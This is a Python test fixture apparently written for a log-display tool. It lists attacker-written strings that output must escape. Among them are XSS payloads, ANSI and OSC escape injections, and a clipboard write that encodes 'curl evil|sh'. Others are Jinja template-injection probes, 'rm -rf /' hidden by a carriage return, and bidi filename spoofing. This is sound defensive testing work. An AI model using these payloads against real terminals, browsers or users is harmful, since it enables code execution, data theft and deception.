"""Attacker-written strings that every output must show exactly as recorded.

Import from any test (``tests/`` is on ``sys.path`` through its conftest):
``from hostile_strings import HOSTILE, expected_visible``. Each string is a value an
attacker can put in a log (a command line, a file or host name, a user agent).
Terminal tests compare the visible text with :func:`expected_visible`; HTML tests
compare the DOM text read in headless Chromium with it too.
"""

from __future__ import annotations

import unicodedata

HOSTILE: dict[str, str] = {
    # Rich markup, in every form it takes
    "rich char codes": "powershell -c iex ([char]73+[char]69+[char]88); [scriptblock]::create($x); "
    "[io.file]::ReadAllBytes(1)",
    "rich style": "[bold red]ALERT[/bold red] nothing to see",
    "rich close all": "ok[/] [/]",
    "rich link": "[link=https://evil.example/]click[/link]",
    "rich emoji": ":warning: :skull: :red_circle:",
    "rich escaped": "\\[not markup] \\\\[bold]",
    "rich hex colour": "[#ff0000 on #00ff00]x[/]",
    "rich reverse": "[reverse blink]hidden[/]",
    "rich conceal": "[conceal]secret[/conceal] visible",
    "rich at-click": "[@click=app.bell]ring[/]",
    "rich nested": "[b][i][u]deep[/u][/i][/b]",
    "rich repr highlight": "<Process pid=4 name='System'> 0x1f 3.14 True None",
    "windows path brackets": "C:\\Users\\[admin]\\AppData\\[Local]\\Temp\\a.ps1",
    # ANSI and OSC escape sequences
    "ansi colour": "\x1b[31mred\x1b[0m normal",
    "ansi clear screen": "\x1b[2J\x1b[Hwiped",
    "ansi cursor up": "line\x1b[1A\x1b[2Koverwritten",
    "ansi hide": "\x1b[8mhidden text\x1b[28m",
    "osc 8 link": "\x1b]8;;https://evil.example/\x1b\\innocent\x1b]8;;\x1b\\",
    "osc title": "\x1b]0;pwned title\x07rest",
    "osc 52 clipboard": "\x1b]52;c;Y3VybCBldmlsfHNo\x07",
    "c1 csi": "\x9b31mC1 CSI",
    "carriage return": "rm -rf / #\rls -la",
    "backspace": "evil\x08\x08\x08\x08good",
    "nul": "cmd.exe\x00/c whoami",
    "bell and vt": "\x07\x0b\x0c",
    "tab and newline": "a\tb\nc",
    "dec line drawing": "\x1b(0lqqk\x1b(B",
    # HTML and JavaScript
    "script tag": "<script>alert(document.domain)</script>",
    "img onerror": '<img src=x onerror="alert(1)">',
    "svg onload": "<svg/onload=alert(1)>",
    "attribute break": "\" onmouseover=\"alert(1)\" x=\"",
    "single quote break": "' onfocus='alert(1)' autofocus='",
    "javascript url": "javascript:alert(1)//",
    "html entities": "&lt;b&gt; &amp; &#x3C;script&#x3E;",
    "closing tags": "</td></tr></table></iframe></textarea></title><b>bold</b>",
    "js template literal": "`${alert(1)}` ${constructor.constructor('alert(1)')()}",
    "json break": '"}]);alert(1);//',
    "css break": "</style><style>body{display:none}</style>",
    # Bokeh and Jinja templates
    "bokeh field": "@x @{CommandLine} $index $x $name",
    "bokeh html hover": "<div>@desc{safe}</div>",
    "jinja expression": "{{ 7*7 }} {{ config.items() }}",
    "jinja statement": "{% for x in range(3) %}{{x}}{% endfor %}",
    "jinja comment": "{# hidden #}shown",
    "python format": "{0.__class__} %s %(name)s",
    # bidi and invisible characters
    "bidi override": "invoice\u202egnp.exe",
    "bidi isolate": "\u2066admin\u2069\u2067evil\u2069",
    "zero width": "pay\u200bpal\u200d.com\ufeff",
    "line separator": "one\u2028two\u2029three",
    # other Unicode
    "combining": "Z\u0351\u0362a\u0338l\u0363go",
    "emoji and cjk": "😈 攻撃 атака",
    # very long
    "long line": "A" * 5000 + "[red]END[/red]",
    "long no spaces": "x" * 300 + "<script>" + "y" * 300,
}
"""Name → hostile string."""

_NAMED = {"\t": "\\t", "\n": "\\n", "\r": "\\r"}


def _shown(ch: str) -> str:
    """How one character must appear: itself, or an escape when a terminal or browser would obey it."""
    if unicodedata.category(ch) not in ("Cc", "Cf", "Zl", "Zp", "Cs") or ch == "\u00ad":
        return ch
    if ch in _NAMED:
        return _NAMED[ch]
    cp = ord(ch)
    return f"\\x{cp:02x}" if cp <= 0xFF else f"\\u{cp:04x}" if cp <= 0xFFFF else f"\\U{cp:08x}"


def expected_visible(text: str) -> str:
    """The visible text that output of *text* must show (written apart from ``huntbook.display``)."""
    return "".join(_shown(ch) for ch in text)
